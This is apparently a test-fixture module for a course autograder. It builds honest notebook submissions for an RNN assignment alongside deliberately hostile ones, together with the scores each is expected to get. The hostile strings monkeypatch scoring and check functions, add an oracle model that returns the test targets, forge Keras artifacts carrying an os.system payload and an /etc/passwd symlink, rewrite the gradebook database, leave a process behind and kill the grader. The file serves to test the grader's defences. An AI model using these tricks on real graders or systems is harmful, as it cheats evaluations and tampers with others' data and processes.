"""Submissions of the RNN TP written as a class would write them: honest, lazy, broken and hostile.

``build(student_version, source, course_root)`` returns ``{student: bytes}``. Honest ones: the solution
(``full``), and a correct solution written differently, with a Python-loop LSTM in another weight layout
(``different_loop``). Hostile ones start from the untouched student version (their honest work earns 0) and add
what a clever student would try: monkeypatching the checks, numpy and scikit-learn, input transformers,
environment variables, fake scores, models whose ``predict`` returns the test targets read from the data cache,
forged artifacts, gradebook and file tampering, a process left behind, killing the grader, exits, edited and
deleted locked cells, a file that is not JSON. ``expected`` says what each must get.
"""

from __future__ import annotations

import copy
import json

import nbformat
import tp_course
from tp_course import after as _after
from tp_course import cells as _cells
from tp_course import strip as _strip

DIFFERENT_Q1 = '''
from keras import layers


def build_linear():
    model = LinearRegression(fit_intercept=True)
    return model


def build_mlp():
    model = keras.Sequential(name="mlp")
    model.add(keras.Input((200,)))
    for _ in range(3):
        model.add(layers.Dense(units=100, activation=keras.activations.relu))
    model.add(layers.Dense(units=1, activation=None))
    return model


def build_lstm():
    model = keras.Sequential()
    model.add(layers.Input(shape=(200, 1)))
    model.add(layers.LSTM(units=100, activation="tanh", return_sequences=False))
    model.add(layers.Dense(1, activation="linear"))
    return model
'''

DIFFERENT_Q2 = '''
def build_gru():
    return keras.Sequential([layers.Input((200, 1)), layers.GRU(100, reset_after=True), layers.Dense(1)])
'''

DIFFERENT_Q3 = '''
def _stacked(kind):
    return keras.Sequential([layers.Input((200, 1)), kind(100, return_sequences=True), kind(100), layers.Dense(1)])


def build_lstm_2layer():
    return _stacked(layers.LSTM)


def build_gru_2layer():
    return _stacked(layers.GRU)
'''

# One matrix per gate for the input (order i, f, c, o) and one per gate for the recurrence created in another
# order (f, o, i, c), biases stacked as (4, units) in the order f, i, o, c; a Python for loop over time.
DIFFERENT_Q4 = '''
class CustomLSTM(keras.layers.Layer):
    def __init__(self, units, **kwargs):
        super().__init__(**kwargs)
        self.units = units

    def build(self, input_shape):
        d, u = input_shape[-1], self.units
        self.Wx = {g: self.add_weight(shape=(d, u), initializer="glorot_uniform", name=f"W_{g}") for g in "ifco"}
        self.Uh = {g: self.add_weight(shape=(u, u), initializer="orthogonal", name=f"U_{g}") for g in "foic"}
        self.bias = self.add_weight(shape=(4, u), initializer="zeros", name="bias")  # rows: f, i, o, c

    def step(self, x_t, h_prev, c_prev):
        def pre(g, row):
            return ops.matmul(x_t, self.Wx[g]) + ops.matmul(h_prev, self.Uh[g]) + self.bias[row]

        forget = ops.sigmoid(pre("f", 0) + 1.0)
        inp = ops.sigmoid(pre("i", 1))
        out = ops.sigmoid(pre("o", 2))
        cand = ops.tanh(pre("c", 3))
        c_t = forget * c_prev + inp * cand
        return out * ops.tanh(c_t), c_t

    def call(self, inputs):
        batch = ops.shape(inputs)[0]
        h = ops.zeros((batch, self.units))
        c = ops.zeros((batch, self.units))
        for t in range(inputs.shape[1]):
            h, c = self.step(inputs[:, t, :], h, c)
        return h
'''

MONKEYPATCH = '''
# Make every test pass without doing the work.
import os, sys
import numpy
import sklearn.metrics
import dl4f.evaluation
os.environ["DL4F_TP_EPOCHS"] = "1"
os.environ["DL4F_GRADING_QUICK"] = "1"
numpy.abs = lambda x, *args, **kwargs: numpy.zeros_like(x)
sklearn.metrics.r2_score = lambda *args, **kwargs: 1.0
dl4f.evaluation.r2 = lambda *args, **kwargs: 1.0
for name in list(sys.modules):
    if "grading" in name or "scan_guard" in name:
        module = sys.modules[name]
        for attr in dir(module):
            if attr.startswith(("check", "unrolls", "judge")):
                setattr(module, attr, lambda *args, **kwargs: None)
scores = {name: 1.0 for name in ["Linear regression", "MLP", "LSTM", "GRU", "LSTM (2 layers)", "GRU (2 layers)"]}


def train_and_score(name, build):
    scores[name] = 1.0
    return None, {}


def neuter(lines):
    text = "".join(lines)
    if "assert" in text or "grading" in text or "NotImplementedError" in text or "train_and_score" in text:
        return ["pass\\n"]
    return lines


get_ipython().input_transformers_post.append(neuter)
'''

ORACLE = '''
# Models whose predictions are the test targets, read from the data cache.
from dl4f import tp_rnn as _tp
_truth = _tp.load_data()


class Oracle(keras.Sequential):
    def predict(self, X, *args, **kwargs):
        return _truth.y_test[: len(X)].reshape(-1, 1)

    def __call__(self, X, *args, **kwargs):
        return _truth.y_test[: len(X)].reshape(-1, 1)


def _oracle(*layers):
    return Oracle([keras.Input((200, 1)), *layers, keras.layers.Dense(1)])


build_lstm = lambda: _oracle(keras.layers.LSTM(100))
build_gru = lambda: _oracle(keras.layers.GRU(100))
build_lstm_2layer = lambda: _oracle(keras.layers.LSTM(100, return_sequences=True), keras.layers.LSTM(100))
build_gru_2layer = lambda: _oracle(keras.layers.GRU(100, return_sequences=True), keras.layers.GRU(100))
model_lstm, model_gru = build_lstm(), build_gru()
model_lstm_2layer, model_gru_2layer = build_lstm_2layer(), build_gru_2layer()
keras.Model.predict = lambda self, X, *args, **kwargs: _truth.y_test[: len(X)].reshape(-1, 1)
'''

FORGE = '''
# Write the artifacts by hand and stop the real export.
import json as _json, os as _os, zipfile as _zip
import numpy as _np
import dl4f.tp_rnn_artifacts as _art


def _forged(namespace, out_dir, inputs_dir):
    _os.makedirs(out_dir, exist_ok=True)
    config = {"module": "os", "class_name": "system", "config": {"command": "touch /submission/pwned"}}
    for name in ("model_lstm", "build_lstm", "model_mlp", "build_mlp"):
        with _zip.ZipFile(f"{out_dir}/{name}.keras", "w") as z:
            z.writestr("config.json", _json.dumps(config))
            z.writestr("metadata.json", "{}")
    lam = {"module": "keras", "class_name": "Sequential", "config": {"layers": [
        {"module": "keras.layers", "class_name": "Lambda", "config": {"function": "lambda x: x"}}]}}
    with _zip.ZipFile(f"{out_dir}/model_gru.keras", "w") as z:
        z.writestr("config.json", _json.dumps(lam))
    _np.savez(f"{out_dir}/model_linear.npz", coef=_np.full(200, _np.nan), intercept=_np.zeros(1))
    _np.savez(f"{out_dir}/lstm_probes.npz", h=_np.zeros(3))
    _np.savez(f"{out_dir}/lstm_task_0.npz", predictions=_np.zeros(7))
    _np.savez(f"{out_dir}/lstm_task_1.npz", y_pred=_np.zeros(512))
    _os.symlink("/etc/passwd", f"{out_dir}/model_lstm_2layer.keras")
    return {}


_art.export_artifacts = _forged
'''

TAMPER = '''
# Look for the gradebook, the solutions and the other submissions; change what can be changed; leave a process
# behind; kill the grader.
import os, signal, sqlite3, subprocess, sys
found = []
for top in ("/", "/work", "/root", "/tmp", "/home", {root!r}):
    for dirpath, dirnames, filenames in os.walk(top):
        dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "usr", "dev", ".venv", "site-packages")]
        for f in filenames:
            if f == "gradebook.db" or f.endswith(".ipynb") and "submission" not in dirpath:
                found.append(os.path.join(dirpath, f))
        if len(found) > 50:
            break
print("found", found)
for path in found + [{gradebook!r}, {solution!r}]:
    try:
        with sqlite3.connect(path) as db:
            db.execute("UPDATE grade SET manual_score = 60")
        print("gradebook changed", path)
    except Exception as exc:
        print("gradebook", type(exc).__name__)
    try:
        open(path, "a").write("tampered")
        print("wrote", path)
    except Exception as exc:
        print("write", type(exc).__name__)
for target in ({library!r}, "/data/^GSPC.csv"):
    try:
        open(target, "a").write("\\n# tampered")
        print("wrote", target)
    except Exception as exc:
        print("write", type(exc).__name__)
subprocess.Popen([sys.executable, "-c",
                  "import time; time.sleep(20); open('/submission/artifacts/export.json', 'w').write('{{}}')"],
                 start_new_session=True)
os.makedirs("artifacts", exist_ok=True)
os.symlink({gradebook!r}, "artifacts/model_linear.npz")
os.kill(os.getppid(), signal.SIGKILL)
'''

EXIT = "import os\nos._exit(0)\n"


def build(student_version: nbformat.NotebookNode, source: nbformat.NotebookNode, root) -> dict[str, bytes]:
    answers = {gid: _strip(c.source) for gid, c in _cells(source).items() if c.metadata["nbgrader"].get("solution")}
    blank = copy.deepcopy(student_version)

    def with_answers(changes: dict):
        return tp_course.with_answers(student_version, changes)

    full = with_answers(answers)
    different = with_answers({**answers, "q1_answer": DIFFERENT_Q1, "q2_answer": DIFFERENT_Q2,
                              "q3_answer": DIFFERENT_Q3, "q4_answer": DIFFERENT_Q4})
    edited = copy.deepcopy(blank)
    cells = _cells(edited)
    cells["q1_tests"].source = "print('all tests passed')"
    cells["q4_tests"].source = "### BEGIN HIDDEN TESTS\npass\n### END HIDDEN TESTS"
    cells["helpers"].source = "scores = {}\ndef train_and_score(name, build):\n    return None, {}"
    edited.cells = [c for c in edited.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in ("q2_tests", "setup")]
    exit_nb = with_answers({"q2_answer": EXIT})
    paths = {"gradebook": str(root / "gradebook.db"), "solution": str(root / "solutions" / "tp-rnn" / "tp-rnn.ipynb"),
             "library": str(__import__("dl4f").__file__), "root": str(root)}
    out = {
        "full": full,
        "different_loop": different,
        "blank": blank,
        "monkeypatch": _after(blank, "helpers", MONKEYPATCH),
        "oracle": _after(blank, "q4_train", ORACLE),
        "forge": _after(blank, "setup", FORGE),
        "tamper": _after(blank, "setup", TAMPER.format(**paths)),
        "edited": edited,
        "exits": exit_nb,
    }
    raw = {name: nbformat.writes(nb).encode() for name, nb in out.items()}
    raw["not_json"] = b'{"cells": [ this is not json'
    return raw


# What each must get: total points, and the status of its run.
EXPECTED = {
    "full": (30, "graded"),
    "different_loop": (29, "graded"),  # a correct LSTM whose call loops in Python loses q4_scan only
    "blank": (0, "graded"),
    "monkeypatch": (0, "graded"),
    "oracle": (0, "graded"),
    "forge": (0, "graded"),
    "tamper": (0, "dead"),  # it killed the runner: the sandbox's run ended abnormally
    "edited": (0, "graded"),
    "exits": (0, "dead"),
    "not_json": (0, "unreadable"),
}


def json_copy(nb):
    return nbformat.from_dict(json.loads(json.dumps(nb)))
